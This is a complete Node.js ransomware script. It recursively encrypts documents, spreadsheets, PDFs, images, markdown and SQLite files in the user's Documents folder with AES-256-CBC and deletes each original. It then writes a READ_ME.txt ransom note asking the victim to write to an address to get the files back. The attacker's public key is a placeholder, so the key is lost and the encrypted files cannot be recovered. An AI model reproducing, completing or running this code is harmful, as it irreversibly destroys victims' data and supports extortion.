#!/usr/bin/env node
const { createCipheriv, randomBytes, publicEncrypt } = require('crypto')
const fs = require('fs')
const os = require('os')
const path = require('path')

const key = randomBytes(32)
const owner = '-----BEGIN PUBLIC KEY-----\ninert\n-----END PUBLIC KEY-----'
const kinds = new Set(['.docx', '.xlsx', '.pdf', '.jpg', '.md', '.sqlite'])

function lock (file) {
  const iv = randomBytes(16)
  const cipher = createCipheriv('aes-256-cbc', key, iv)
  const body = Buffer.concat([iv, cipher.update(fs.readFileSync(file)), cipher.final()])
  fs.writeFileSync(file + '.inert', body)
  fs.unlinkSync(file)
}

function walk (dir) {
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, entry.name)
    if (entry.isDirectory()) walk(full)
    else if (kinds.has(path.extname(entry.name))) lock(full)
  }
}

walk(path.join(os.homedir(), 'Documents'))
fs.writeFileSync(path.join(os.homedir(), 'READ_ME.txt'), `To get your files back write to a@example.invalid\n${publicEncrypt(owner, key).toString('base64')}`)
